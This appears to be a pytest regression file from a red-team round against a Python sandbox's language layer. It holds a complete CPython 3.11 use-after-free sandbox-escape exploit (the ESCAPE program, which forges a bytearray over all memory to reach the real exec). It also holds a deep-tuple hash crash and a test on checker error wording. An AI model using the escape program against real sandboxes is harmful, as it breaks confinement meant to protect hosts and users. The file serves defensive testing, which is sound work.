"""Red team, round ten: the sandbox's language layer, attacked with ordinary tree programs.

Programs the upload check accepts, run by a real ``Supervisor`` and ``Previewer`` in real
confined children, no mocks. ``docs/red-team/round10-language.md`` has the reproductions, what
held, and the suggested fixes; the numbers below are its findings'.
"""

from __future__ import annotations

import pytest

from runner.supervise.check import Checker
from tests.hardening.confined_runs import LIMIT_S
from tests.hardening.confined_runs import config as _config
from tests.hardening.confined_runs import dry_run as _dry_run
from tests.hardening.confined_runs import tree_run as _tree_run

# --- 1. a program runs arbitrary Python with the real builtins (no garbage collector) ----------
#
# CPython 3.11's ``list_richcompare`` (gh-120298, fixed in 3.12.5 and 3.13, never in 3.11) finds
# the first items of two lists that differ, then compares them once more with the real operator
# through *borrowed* pointers. The program's ``__lt__`` empties both lists, so when it returns
# NotImplemented its frame drops the last references to both items: the left one (a ``set``
# subclass, 240-byte blocks) is freed first, then the right one, whose attribute is a suspended
# generator: its ``finally`` (program code, run by reference counting, not by the collector)
# allocates ``bytes`` of the same size class, one of which lands in the left item's block with
# its data exactly where the object was: a fake ``bytearray`` over the whole address space. The
# interpreter then calls the right item's reflected ``__gt__`` with the freed left item, which is
# now the fake. From there as in round eight: ``id(print) + 16`` is the ``SandboxFunction``'s
# ``_call``, a function of ``runner.sandbox.guards``, whose globals hold the real ``exec``.
# ``sorted([right, left])`` does the same comparison from C (no ``<`` in the source). Found:
# every run, tree and dry run, direct and through ``sorted``: ``completed``/``ended``, log
# "ESCAPED: pid, uid, environment: (…, 65534, ['LC_CTYPE'])". A language-layer escape.
ESCAPE = """def word(value):
    return value.to_bytes(8, "little")


# A bytearray object as CPython 3.11 lays it out (reference count, type, size, allocated size,
# buffer, start, exports): data at address 0, 2**62 bytes long; padded to the victim's size class.
FAKE = word(1 << 40) + word(id(bytearray)) + word(1 << 62) + word(1 << 62)
FAKE += word(0) + word(0) + word(0) + bytes(144)
spray = [None] * 600
found = [None]
keep = [None]


class Victim(set):
    def __lt__(self, other):
        left.clear()
        right.clear()
        return NotImplemented


class Trigger:
    def __gt__(self, other):
        keep[0] = self
        found[0] = other
        return False


def reclaim():
    try:
        yield
    finally:
        for i in range(600):
            spray[i] = bytes(bytearray(FAKE))


trigger = Trigger()
trigger.pending = reclaim()
next(trigger.pending)
left = [Victim()]
right = [trigger]
trigger = None
%s
memory = found[0]
print("memory over everything:", type(memory) is bytearray and len(memory) > (1 << 60))


def read(address):
    return int.from_bytes(memory[address : address + 8], "little")


def write(address, value):
    memory[address : address + 8] = word(value)


function = read(id(print) + 16)  # SandboxFunction._call: a function of runner.sandbox.guards
module_globals = read(function + 16)  # its __globals__
holder = [None]
write(module_globals, read(module_globals) + 1)
write(read(id(holder) + 24), module_globals)  # holder[0] = the module's globals
real = holder[0]
namespace = {"__builtins__": real["builtins"]}
source = "import os; found = (os.getpid(), os.getuid(), sorted(os.environ))"
real["builtins"].exec(source, namespace)
print("ESC" + "APED: pid, uid, environment:", namespace["found"])
"""


@pytest.mark.parametrize("comparison", ["left < right", "sorted([right, left])"])
def test_a_program_cant_reach_the_real_builtins_through_a_list_comparison(comparison: str) -> None:
    program = ESCAPE % comparison
    assert Checker(_config()).check(program) == [], "the upload check accepts the program"
    real = _tree_run(program, "list-compare-escape")
    predicted = _dry_run(program)
    for log in (real.log, predicted.log):
        assert "ESCAPED" not in log, log
    # The child's list comparison holds both items (runner.sandbox.cpython_fixes): the reflected
    # __gt__ gets the live victim, no fake bytearray, and the program fails reading it.
    for log in (real.log, predicted.log):
        assert "memory over everything: False" in log, log
    assert real.status == "failed" and real.error is not None, real


# --- 2. a program crashes its interpreter by hashing a deeply nested tuple ---------------------
#
# ``hash()`` of a tuple hashes its items recursively in C with no recursion check (CPython 3.11;
# ``repr``, comparisons and deallocation of the same tuple are guarded), so a tuple nested a
# million deep overflows the C stack. Found: tree run and dry run ``failed``/``killed``, "the
# program's process was killed by SIGSEGV (segmentation fault)", line 4, every run (3 of 3),
# after ~0.3 s. Nothing else is reached (the child dies), but the interpreter's memory does not
# stay intact, and the author is told of a crash instead of Python's "maximum recursion depth".
DEEP_HASH = """
t = ()
for i in range(1000000):
    t = (t,)
print(hash(t))
"""


@pytest.mark.xfail(
    strict=True,
    reason="red team round ten, known and documented (runner/README.md, 'Data nested a "
    "million deep'): hash() of a deeply nested tuple overflows the C stack",
)
def test_a_program_cant_crash_its_interpreter_by_hashing_a_deep_tuple() -> None:
    real = _tree_run(DEEP_HASH, "deep-hash")
    predicted = _dry_run(DEEP_HASH)
    for reason, error in ((real.reason, real.error), (predicted.reason, predicted.error)):
        assert reason != "killed", error


def test_a_deep_tuples_crash_ends_the_run_as_failed_on_its_line_in_both_modes() -> None:
    # What the documented limit promises: the child dies alone, the run ends at once as a
    # failure naming the line, and a dry run predicts it.
    real = _tree_run(DEEP_HASH, "deep-hash")
    predicted = _dry_run(DEEP_HASH)
    assert (real.status, real.reason) == ("failed", "killed"), real
    assert real.error is not None and real.error.line == 5 and "SIGSEGV" in real.error.message
    assert real.duration_s < LIMIT_S
    assert predicted.status == "failed" and predicted.error is not None, predicted
    assert predicted.error.line == 5, predicted


# --- 3. a refused special method is called "private" ---------------------------------------------
#
# A class may define a short list of special methods (``rules.ALLOWED_DUNDER_DEFS``): ``__mul__``
# but not ``__rmul__`` (``2 * colour`` on a colour class), ``__delitem__``, ``__iadd__``,
# ``__pow__``, ``__float__``, ``__round__``, ``__slots__``. The check refuses the others with the
# message for a private name: '"__rmul__" is not allowed: names starting with "_" are private',
# right after accepting ``__mul__`` on the line before; the author cannot tell that the method is
# a special method the sandbox does not offer (and which ones it does).
RMUL = """
class Colour:
    def __init__(self, r, g, b):
        self.r, self.g, self.b = r, g, b

    def __mul__(self, k):
        return Colour(self.r * k, self.g * k, self.b * k)

    def __rmul__(self, k):
        return self * k
"""


def test_a_refused_special_method_is_not_called_private() -> None:
    errors = Checker(_config()).check(RMUL)
    assert [e.line for e in errors] == [9], errors
    assert "private" not in errors[0].message, errors[0].message
    assert "__rmul__" in errors[0].message
